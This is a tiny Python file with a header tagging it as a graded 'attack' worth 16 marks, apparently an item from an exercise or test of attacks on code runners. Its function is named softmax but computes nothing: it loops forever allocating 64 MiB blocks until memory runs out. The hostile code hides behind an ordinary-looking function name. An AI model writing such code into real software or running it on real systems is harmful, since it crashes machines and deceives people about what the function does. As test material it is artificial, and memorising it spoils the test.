# /// attack
# what = "takes memory without end"
# state = "graded"
# marks = 16
# ///
def softmax(z, axis=-1):
    taken = []
    while True:
        taken.append(bytearray(b"x" * (64 << 20)))
